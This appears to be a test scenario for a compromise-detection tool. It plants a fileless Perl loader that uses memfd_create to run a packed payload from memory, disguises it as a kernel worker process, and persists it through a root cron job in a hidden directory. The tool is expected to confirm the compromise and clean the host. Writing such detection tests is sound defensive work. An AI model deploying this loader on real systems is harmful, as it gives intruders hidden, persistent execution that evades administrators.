import { scenario } from '../scenario.ts';
import { addCron } from '../words.ts';

const line = '*/10 * * * * /usr/bin/perl /var/lib/.p/stage.pl >/dev/null 2>&1';

export default scenario({
  what: 'an image that was never on disk, and the script that makes it',
  report: 'A loader of a few lines keeps the program packed, runs it from memory, and is started by cron.',
  wrong:
    'a script that puts a program into memory is not linked by the file that it reads: the line stays, and the host is called clean',
  plant: {
    images: ['/var/lib/.p/data'],
    files: {
      '/var/lib/.p/stage.pl': `use POSIX; my $nr = (POSIX::uname())[4] eq 'aarch64' ? 279 : 319;
my $name = 'x'; my $fd = syscall($nr, $name, 0);
open(my $in, '<', '/var/lib/.p/data'); open(my $out, '>&=', $fd); binmode $in; binmode $out;
{ local $/; print {$out} <$in>; } $out->flush; use IO::Handle;
exec { "/proc/$$/fd/$fd" } '[kworker/u16:1]';
`,
    },
    start: `${addCron('root', [line])}
run perl /var/lib/.p/stage.pl
until pgrep -f '^\\[kworker/u16:1' >/dev/null; do sleep 0.02; done`,
    runs: ['[kworker/u16:1]'],
  },
  expect: {
    verdict: 'confirmed',
    ticked: {
      processes: ['[kworker/u16:1]'],
      files: ['/var/lib/.p/stage.pl', '/var/lib/.p/data'],
      starters: [line],
    },
    may: ['/memfd:x'],
    resolution: 'cleaned',
  },
});
